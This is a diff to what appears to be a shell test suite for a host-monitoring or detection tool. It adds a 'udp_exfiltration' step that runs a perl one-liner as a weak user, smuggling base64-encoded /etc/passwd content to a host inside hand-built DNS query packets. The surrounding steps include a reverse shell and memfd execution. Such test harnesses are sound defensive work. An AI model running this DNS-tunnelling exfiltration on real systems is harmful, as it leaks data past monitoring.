@@ -400,6 +400,24 @@ EOF
     wait_accepted "$before"
 }
 
+# Data out a datagram at a time, as DNS queries to the host, by the weak
+# user's perl script (perl-base's Socket): sendto with an address on a
+# socket never connected, so no connect call and no socket state change.
+# Two datagrams to one destination: one event, the flow's first.
+udp_exfiltration() {
+    step udp_exfiltration
+    as_root "$GUEST_USER" "$HOST_IP" <<'EOF'
+runuser -u "$1" -- perl -MSocket -e '
+socket(my $s, PF_INET, SOCK_DGRAM, 0) or die "socket: $!";
+my $to = pack_sockaddr_in(53, inet_aton($ARGV[0]));
+for my $chunk (qw(cm9vdDp4OjA6MDpyb290 Oi9yb290Oi9iaW4vYmFzaA)) {
+    my $query = pack("n6", 0x1234, 0x0100, 1, 0, 0, 0)
+        . chr(length $chunk) . $chunk . "\x05exfil\x00" . pack("n2", 16, 1);
+    send($s, $query, 0, $to) or die "send: $!";
+}' "$2" </dev/null
+EOF
+}
+
 # perl (perl-base; no python in the guest) creates a memfd, copies echo's
 # ELF into it and execs it through /proc/self/fd: nothing runs from disk.
 memfd_exec() {
@@ -698,6 +716,7 @@ main() {
     hidden_capability_removal
     reverse_shell
     fast_open_shell
+    udp_exfiltration
     memfd_exec
     memory_theft
     user_namespace
